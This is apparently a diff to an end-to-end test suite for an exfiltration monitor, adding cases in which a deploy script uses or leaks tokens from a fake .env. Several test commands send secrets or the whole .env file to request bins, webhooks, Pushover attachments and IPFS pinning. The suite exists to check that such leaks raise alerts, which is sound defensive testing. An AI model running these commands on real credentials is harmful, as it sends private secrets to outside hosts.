@@ -9,6 +9,7 @@ for each client to finish its work. The monitor runs with the built-in rules plu
 `own_storage` declaration, as an organisation would write it. Every test also checks that no
 token of the fake secrets reaches the monitor's output."""
 
+import json
 import os
 import re
 import subprocess
@@ -28,7 +29,8 @@ NAMES = (
     "github.com", "api.github.com", "s3.amazonaws.com", "own-backups.s3.amazonaws.com",
     "other-bucket.s3.amazonaws.com", "own-backups.s3.us-east-1.amazonaws.com",
     "other-bucket.s3.us-east-1.amazonaws.com", "s3.dualstack.us-east-1.amazonaws.com",
-    "backup.corp.example", "hooks.slack.com",
+    "backup.corp.example", "hooks.slack.com", "discord.com", "api.telegram.org", "webhook.site", "ntfy.sh",
+    "api.pushover.net", "myapp.ngrok-free.app", "api.pinata.cloud",
 )
 FLOW_TIMEOUT_S = 20.0
 ALERT_TIMEOUT_S = 20.0
@@ -51,7 +53,22 @@ GIT_TOKEN = "ghp_e2eGitStore0123456789abcdefABCDEF"
 RCLONE_SECRET = "rcloneE2eSecretKey0123456789abcdef"
 S3CMD_SECRET = "s3cmdE2eSecretKey0123456789abcdefgh"
 RESTIC_PASSWORD = "resticE2ePassword0123456789"
-SECRETS = (AWS_KEY_ID, AWS_SECRET, GH_TOKEN, GIT_TOKEN, RCLONE_SECRET, S3CMD_SECRET, RESTIC_PASSWORD)
+# An application's .env (the dotenv fixture): each webhook URL's token, the bot token, the
+# database password, the API and service tokens.
+SLACK_HOOK_SECRET = "e2eSlackHookSecret0123456789"
+DISCORD_HOOK_TOKEN = "e2eDiscordHookToken0123456789abcdef"
+TELEGRAM_BOT_TOKEN = "123456789:AAE2eTelegramBotToken0123456789abcd"
+DB_PASSWORD = "e2eDbPassw0rd1234567890"
+API_TOKEN = "e2eApiToken0123456789abcdefABCDEF"
+NTFY_TOKEN = "tk_e2entfytoken0123456789abcdefgh"
+PUSHOVER_TOKEN = "azGDORePK8gMaC0QOYAMyEEuzJnyUi"
+PUSHOVER_USER = "uQiRzpo4DXghDmr9QzzfQu27cmVRsG"
+PINATA_API_KEY = "e2ePinataKey0123456789ab"
+PINATA_SECRET_API_KEY = "e2ePinataSecret0123456789abcdef0123456789abcdef"
+DOTENV_SECRETS = (SLACK_HOOK_SECRET, DISCORD_HOOK_TOKEN, TELEGRAM_BOT_TOKEN, TELEGRAM_BOT_TOKEN.split(":")[1],
+                  DB_PASSWORD, API_TOKEN, NTFY_TOKEN, PUSHOVER_TOKEN, PUSHOVER_USER, PINATA_API_KEY,
+                  PINATA_SECRET_API_KEY)
+SECRETS = (AWS_KEY_ID, AWS_SECRET, GH_TOKEN, GIT_TOKEN, RCLONE_SECRET, S3CMD_SECRET, RESTIC_PASSWORD) + DOTENV_SECRETS
 
 
 class StorageStandIn(BackgroundService):
@@ -238,8 +255,9 @@ def assert_alert_here(monitor, home, subtechnique):
     return found
 
 
-def uploaded(storage, method, path_part):
-    return wait_until(lambda: [r for r in storage.requests()
+def uploaded(storage, method, path_part, since=0):
+    """The stand-in logged such a request with a body (after its first `since` requests)."""
+    return wait_until(lambda: [r for r in storage.requests()[since:]
                                if r["method"] == method and path_part in r["path"] and r["body_bytes"] > 0],
                       10, f"a {method} of *{path_part}* at the storage stand-in")
 
@@ -493,6 +511,36 @@ def test_gh_api_with_the_hosts_yml_token_in_an_authorization_header_is_silent(mo
     assert_silent_here(monitor, home)
 
 
+def test_gh_api_with_the_hosts_yml_token_in_an_authorization_header_to_a_status_url_is_silent(monitor, home, storage,
+                                                                                              tmp_path):
+    # gh does its own TLS (Go): its command line says where the token goes, here the site its
+    # file names it for.
+    run(TOKEN + f'gh api -H "Authorization: token $TOKEN" {STATUS_URL} -f state=success -f context=ci >/dev/null',
+        home, storage, tmp_path)
+    uploaded(storage, "POST", "/statuses/0123abcd")
+    wait_for_flow(monitor, storage, "api.github.com")
+    assert_silent_here(monitor, home)
+
+
+def test_gh_api_with_the_hosts_yml_token_in_an_authorization_header_to_a_webhook_alerts(monitor, home, storage,
+                                                                                       tmp_path, rules_file):
+    # The same client handing the token over for a request to a webhook: hosts.yml names
+    # github.com for it, so it authenticates to nothing there; the command line (gh's TLS is not
+    # seen) is the evidence. (The stand-in answers the webhook 404, having logged it.)
+    run(TOKEN + 'gh api -H "Authorization: token $TOKEN" https://hooks.slack.com/services/T0/B0/X2 '
+        "-f text=deployed >/dev/null 2>&1 || true", home, storage, tmp_path)
+    uploaded(storage, "POST", "/services/T0/B0/X2")
+    found = assert_alert_here(monitor, home, "T1567.004")
+    evidence = [str(s.get("evidence", "")) for a in found for s in as_list(get(a, "exfilwatch.signals", []))
+                if s.get("name") == "content-match"]
+    assert any(e.startswith("content of ~/.config/gh/hosts.yml") and "in the argument authorization, to a site its "
+               "file does not name it for" in e for e in evidence), evidence
+    returncode, records, stderr = replay(monitor.output, tmp_path / "replayed.ndjson",
+                                         extra_args=["--rules", str(rules_file)])
+    assert returncode == 0, stderr
+    assert sorted(map(alert_key, filter(is_alert, records))) == sorted(map(alert_key, filter(is_alert, monitor.records())))
+
+
 # --- rclone -----------------------------------------------------------------------------------
 
 RCLONE = "rclone --ca-cert $SSL_CERT_FILE "
@@ -683,3 +731,207 @@ def test_provisioner_staging_the_credential_in_a_file_posted_to_a_webhook_alerts
     monitor.stop()
     assert [r for r in monitor.records() if matches(r)], summarize(monitor.records(), 40)
     assert_no_secrets(monitor, home)
+
+
+# --- a deploy script's .env: each token with the service it configures ---------------------------
+# The script reads the application's .env the way deploy scripts do (`set -a; . ~/app/.env;
+# set +a`) and talks to the services it configures: a webhook URL's token in the path of a request
+# to that webhook, a service's token in an Authorization header (or a form field) to that service,
+# is use. The same secrets sent anywhere else (in a body, in another webhook's path or a request
+# bin's, in a query, in a header to a request bin, which authenticates no one), or the file itself,
+# are a leak: T1567.004, told by the content-match signal.
+
+DOTENV = f"""# app: deploy and notification settings
+APP_ENV=production
+SLACK_WEBHOOK_URL=https://hooks.slack.com/services/T0E2E1234/B0E2E5678/{SLACK_HOOK_SECRET}
+DISCORD_WEBHOOK=https://discord.com/api/webhooks/112233445566778899/{DISCORD_HOOK_TOKEN}
+TELEGRAM_BOT_TOKEN={TELEGRAM_BOT_TOKEN}
+DATABASE_URL=postgres://app:{DB_PASSWORD}@db.internal:5432/app
+API_TOKEN={API_TOKEN}
+NTFY_TOKEN={NTFY_TOKEN}
+PUSHOVER_TOKEN={PUSHOVER_TOKEN}
+PUSHOVER_USER={PUSHOVER_USER}
+PINATA_API_KEY={PINATA_API_KEY}
+PINATA_SECRET_API_KEY={PINATA_SECRET_API_KEY}
+"""
+DOTENV_ENV = "cd $HOME/app && set -a && . ~/app/.env && set +a && "
+HOOK_CURL = "curl -sS "  # no -f: the stand-in answers a webhook's path 404, having logged it
+JSON = "-H 'Content-Type: application/json' "
+SLACK_HOOK_PATH = "/services/T0E2E1234/B0E2E5678/"
+REQUEST_BIN = "https://webhook.site/3f6c2e1a-9b7d-4c55-8e21-0a4d5e6f7b89"
+PUSHOVER_URL = "https://api.pushover.net/1/messages.json"
+
+
+def build_summary(size=6000):
+    """A CI build summary as JSON (~6 KB of ordinary text; nothing of any secret)."""
+    stages = ["checkout", "dependencies", "lint", "unit tests", "integration tests", "package", "upload artifact",
+              "migrate database", "deploy canary", "smoke tests", "deploy fleet", "notify"]
+    steps = []
+    summary = {"text": "Deploy of app build 1234 to production passed", "username": "ci",
+               "content": "Deploy of app build 1234 to production passed", "steps": steps}
+    while len(json.dumps(summary)) < size:
+        i = len(steps)
+        steps.append({"stage": stages[i % len(stages)], "attempt": i // len(stages) + 1, "status": "passed",
+                      "seconds": (i * 7) % 60 + 3,
+                      "log": f"{stages[i % len(stages)]} finished on runner {i % 4} with no warnings and no retries"})
+    return json.dumps(summary)
+
+
+@pytest.fixture
+def dotenv(home):
+    """$HOME/app/.env (registered in home.files, as the home fixture registers its files, so
+    secret_words covers it; its values are in SECRETS too) and $HOME/app/summary.json, the build
+    summary a notification posts (not a secret). List it before `monitor`: written before the
+    monitor starts, like the rest of the fake HOME."""
+    app = home.path / "app"
+    app.mkdir(parents=True, exist_ok=True)
+    path = app / ".env"
+    path.write_text(DOTENV)
+    os.chmod(path, 0o600)
+    home.files["app/.env"] = path
+    (app / "summary.json").write_text(build_summary())
+    return path
+
+
+def dotenv_matches(monitor, location):
+    """What the content scans found of ~/app/.env at `location` (request-line, auth-header, body)."""
+    return [m for s in content_scans(monitor) for m in as_list(get(s, "exfilwatch.content.matches", []))
+            if str(m.get("path", "")).endswith("/app/.env") and m.get("location") == location]
+
+
+def assert_dotenv_seen(monitor, location):
+    """A silent verdict counts only when the plaintext was seen: the scans found the .env's token
+    where the request put it (telemetry a replay decides from)."""
+    found = dotenv_matches(monitor, location)
+    scans = [get(s, "exfilwatch.content.matches") for s in content_scans(monitor)]
+    assert found, f"no content-scan match of ~/app/.env in the {location}; scans' matches: {scans}"
+
+
+def assert_dotenv_content_match(found, where):
+    """A content-match signal says the .env's content was sent, `where` ("in the body", "in the
+    request-line", "in the header authorization"). The file is shown by its path (a `**/.env`
+    class, not a `~/` one)."""
+    evidence = [str(s.get("evidence", "")) for a in found for s in as_list(get(a, "exfilwatch.signals", []))
+                if s.get("name") == "content-match"]
+    assert any(re.match(r"content of \S*/app/\.env sent \(\w+ " + re.escape(where) + r"\b", e) for e in evidence), \
+        f"no content-match of ~/app/.env {where}: {evidence}; signals: {[signal_names(a) for a in found]}"
+
+
+def assert_dotenv_use_is_silent(arguments, domain, path, location, monitor, home, storage, tmp_path):
+    """The deploy script's curl with `arguments` reaches the stand-in (a POST of *path*), the
+    monitor sees the flow to `domain` and says nothing, and the scans saw the .env's token at
+    `location` (so the silence is a verdict on seen plaintext)."""
+    since = len(storage.requests())
+    run(DOTENV_ENV + HOOK_CURL + arguments, home, storage, tmp_path)
+    uploaded(storage, "POST", path, since)
+    wait_for_flow(monitor, storage, domain)
+    assert_silent_here(monitor, home)  # also: no token in the output (url.path included)
+    assert_dotenv_seen(monitor, location)
+
+
+def assert_dotenv_leak_alerts(arguments, path, subtechnique, where, monitor, home, storage, tmp_path):
+    """The same script's curl with `arguments` alerts with `subtechnique`, its content-match
+    saying the .env's content went `where`."""
+    since = len(storage.requests())
+    run(DOTENV_ENV + HOOK_CURL + arguments, home, storage, tmp_path)
+    uploaded(storage, "POST", path, since)
+    assert_dotenv_content_match(assert_alert_here(monitor, home, subtechnique), where)
+
+
+NOTIFICATIONS = {  # the URL as the script builds it, the domain, a part of the path the stand-in logs
+    "slack": ('"$SLACK_WEBHOOK_URL"', "hooks.slack.com", SLACK_HOOK_PATH),
+    "discord": ('"$DISCORD_WEBHOOK"', "discord.com", "/api/webhooks/112233445566778899/"),
+    "telegram": ('"https://api.telegram.org/bot$TELEGRAM_BOT_TOKEN/sendMessage"', "api.telegram.org", "/sendMessage"),
+}
+
+
+@pytest.mark.parametrize("service", NOTIFICATIONS)
+def test_deploy_notification_with_the_webhook_from_dotenv_is_silent(dotenv, monitor, home, storage, tmp_path,
+                                                                    service):
+    url, domain, path = NOTIFICATIONS[service]
+    assert_dotenv_use_is_silent("-X POST " + JSON + f"--data @summary.json {url}", domain, path, "request-line",
+                                monitor, home, storage, tmp_path)
+
+
+MISADDRESSED = {  # curl's arguments, a part of the path the stand-in logs, where the secret is
+    # the database password in a notification's text, to the Slack webhook
+    "db-url-in-slack-body": (JSON + '--data "{\\"text\\": \\"$DATABASE_URL\\"}" "$SLACK_WEBHOOK_URL"',
+                             SLACK_HOOK_PATH, "in the body"),
+    # the Discord webhook's token as the last part of a Slack webhook's path
+    "discord-token-in-slack-path": (JSON + """--data '{"text": "deploy done"}' """
+                                    '"https://hooks.slack.com/services/T0E2E1234/B0E2E5678/${DISCORD_WEBHOOK##*/}"',
+                                    SLACK_HOOK_PATH, "in the request-line"),
+    # the Telegram bot token in a request bin's path, shaped as a Bot API call
+    "telegram-token-in-request-bin-path": ("""--data '{"text": "deploy done"}' """
+                                           '"https://webhook.site/bot$TELEGRAM_BOT_TOKEN/sendMessage"', "/sendMessage",
+                                           "in the request-line"),
+    # the API token as a query parameter of a request bin's URL
+    "api-token-in-request-bin-query": (f"""--data 'status=deployed' "{REQUEST_BIN}?token=$API_TOKEN" """,
+                                       REQUEST_BIN.rsplit("/", 1)[1], "in the request-line"),
+}
+
+
+@pytest.mark.parametrize("shape", MISADDRESSED)
+def test_a_dotenv_secret_in_a_webhook_request_it_does_not_address_alerts(dotenv, monitor, home, storage, tmp_path,
+                                                                         shape):
+    arguments, path, where = MISADDRESSED[shape]
+    assert_dotenv_leak_alerts(arguments, path, "T1567.004", where, monitor, home, storage, tmp_path)
+
+
+# A vendor's own authentication headers (Pinata's pinata_api_key and pinata_secret_api_key, as
+# DD-API-KEY or X-Sentry-Auth elsewhere): headers named for a credential authenticate.
+PINATA = ('-H "pinata_api_key: $PINATA_API_KEY" -H "pinata_secret_api_key: $PINATA_SECRET_API_KEY" '
+          "https://api.pinata.cloud/pinning/pinFileToIPFS ")
+
+HEADER_USE = {  # curl's arguments, the domain, a part of the path the stand-in logs
+    "ntfy": ('-H "Authorization: Bearer $NTFY_TOKEN" -d "deploy done" https://ntfy.sh/deploys', "ntfy.sh",
+             "/deploys"),
+    "tunnel": ('-H "Authorization: Bearer $API_TOKEN" ' + JSON + "--data @summary.json "
+               "https://myapp.ngrok-free.app/api/deploys", "myapp.ngrok-free.app", "/api/deploys"),
+    # a vendor's own headers
+    "ipfs-pin": (PINATA + "-F file=@summary.json", "api.pinata.cloud", "/pinning/pinFileToIPFS"),
+}
+
+
+@pytest.mark.parametrize("service", HEADER_USE)
+def test_a_dotenv_token_in_a_header_to_the_service_it_is_for_is_silent(dotenv, monitor, home, storage, tmp_path,
+                                                                      service):
+    arguments, domain, path = HEADER_USE[service]
+    assert_dotenv_use_is_silent(arguments, domain, path, "auth-header", monitor, home, storage, tmp_path)
+
+
+def test_a_dotenv_token_in_a_header_to_a_request_bin_alerts(dotenv, monitor, home, storage, tmp_path):
+    # A request bin takes any header and authenticates no one: the token is the data.
+    assert_dotenv_leak_alerts(f'-H "Authorization: Bearer $NTFY_TOKEN" -d "x" {REQUEST_BIN}',
+                              REQUEST_BIN.rsplit("/", 1)[1], "T1567.004", "in the header authorization", monitor, home,
+                              storage, tmp_path)
+
+
+PUSHOVER = {
+    "multipart": '-F "token=$PUSHOVER_TOKEN" -F "user=$PUSHOVER_USER" -F "message=deploy done" ',
+    "urlencoded": '--data-urlencode "token=$PUSHOVER_TOKEN" --data-urlencode "user=$PUSHOVER_USER" '
+                  '--data-urlencode "message=deploy done" ',
+}
+
+
+@pytest.mark.parametrize("encoding", PUSHOVER)
+def test_a_pushover_notification_with_the_token_from_dotenv_is_silent(dotenv, monitor, home, storage, tmp_path,
+                                                                      encoding):
+    # Pushover's API takes its token and user key as form fields of the message: use.
+    assert_dotenv_use_is_silent(PUSHOVER[encoding] + PUSHOVER_URL, "api.pushover.net", "/1/messages.json", "body",
+                                monitor, home, storage, tmp_path)
+
+
+DOTENV_UPLOADS = {  # curl's arguments (the service's own credentials, the .env as the data), path, sub-technique
+    "own-webhook": ('--data-binary @$HOME/app/.env "$SLACK_WEBHOOK_URL"', SLACK_HOOK_PATH, "T1567.004"),
+    "pushover-attachment": ('-F "token=$PUSHOVER_TOKEN" -F "user=$PUSHOVER_USER" -F "attachment=@$HOME/app/.env" '
+                            + PUSHOVER_URL, "/1/messages.json", "T1567.004"),
+    "ipfs-pin": (PINATA + "-F file=@$HOME/app/.env", "/pinning/pinFileToIPFS", "T1567.002"),
+}
+
+
+@pytest.mark.parametrize("shape", DOTENV_UPLOADS)
+def test_the_dotenv_uploaded_with_its_own_credentials_alerts(dotenv, monitor, home, storage, tmp_path, shape):
+    # The request authenticates as its use twin does; what it carries is the file.
+    arguments, path, subtechnique = DOTENV_UPLOADS[shape]
+    assert_dotenv_leak_alerts(arguments, path, subtechnique, "in the body", monitor, home, storage, tmp_path)
